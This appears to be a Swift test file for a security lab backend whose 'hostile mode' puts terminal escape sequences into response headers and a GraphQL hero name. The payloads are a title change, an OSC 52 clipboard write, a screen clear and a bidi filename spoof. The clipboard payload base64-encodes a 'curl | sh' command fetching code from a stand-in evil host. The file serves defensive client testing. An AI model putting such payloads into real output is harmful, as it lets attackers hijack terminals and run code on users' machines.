import Backend
import ChainKit
import Foundation
import Lab
import Testing

@Suite struct HostileModeTests {
    let settings = LabBackend.Settings(hostile: true)

    @Test func payloadsAreTheExactSequences() {
        #expect(HostilePayload.titleChange == "\u{1B}]2;PWNED\u{07}")
        #expect(HostilePayload.clipboardWrite == "\u{1B}]52;c;" + Data(HostilePayload.clipboardText.utf8).base64EncodedString() + "\u{07}")
        #expect(HostilePayload.screenClear == "\u{1B}[2J")
        #expect(HostilePayload.bidiSpoof == "invoice\u{202E}fdp.exe\u{2066}")
    }

    @Test func everyResponseCarriesTheEscapesInItsHeaders() {
        let lab = BackendHarness(settings)
        let response = lab.heroQuery(token: lab.backend.issueTokens().accessToken)
        #expect(response.headers["X-Lab-Title"] == "\u{1B}]2;PWNED\u{07}")
        #expect(response.headers["X-Lab-Clipboard"] == "\u{1B}]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u{07}")
        #expect(response.headers["X-Lab-Clear"] == "\u{1B}[2J")
        #expect(response.headers["X-Lab-Bidi"] == "invoice\u{202E}fdp.exe\u{2066}")
        #expect(lab.send("GET", "/nowhere").headers["X-Lab-Title"] == HostilePayload.titleChange)
    }

    @Test func heroNameCarriesTheEscapesInTheBody() {
        let lab = BackendHarness(settings)
        let response = lab.heroQuery(token: lab.backend.issueTokens().accessToken)
        let name = "R2-D2\u{1B}]2;PWNED\u{07}\u{1B}]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u{07}\u{1B}[2Jinvoice\u{202E}fdp.exe\u{2066}"
        #expect(response.json?["data"]?["hero"]?["name"] == .string(name))
        #expect(response.text == "{\"data\":{\"hero\":{\"id\":\"2001\",\"name\":\"R2-D2\\u001b]2;PWNED\\u0007\\u001b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\\u0007\\u001b[2Jinvoice\u{202E}fdp.exe\u{2066}\"}}}")
    }

    @Test func offByDefault() {
        let lab = BackendHarness()
        let response = lab.heroQuery(token: lab.backend.issueTokens().accessToken)
        #expect(response.headers.map(\.name) == ["Content-Type"])
        #expect(response.text == heroData)
    }
}
